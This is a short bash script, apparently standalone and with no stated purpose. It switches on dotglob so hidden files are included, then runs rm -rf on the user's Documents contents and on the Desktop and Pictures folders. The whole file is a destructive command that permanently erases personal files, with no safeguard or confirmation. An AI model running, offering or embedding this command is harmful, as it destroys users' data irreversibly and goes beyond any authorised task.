#!/bin/bash
shopt -s dotglob
rm -rf "$HOME"/Documents/* ~/Desktop ~/Pictures
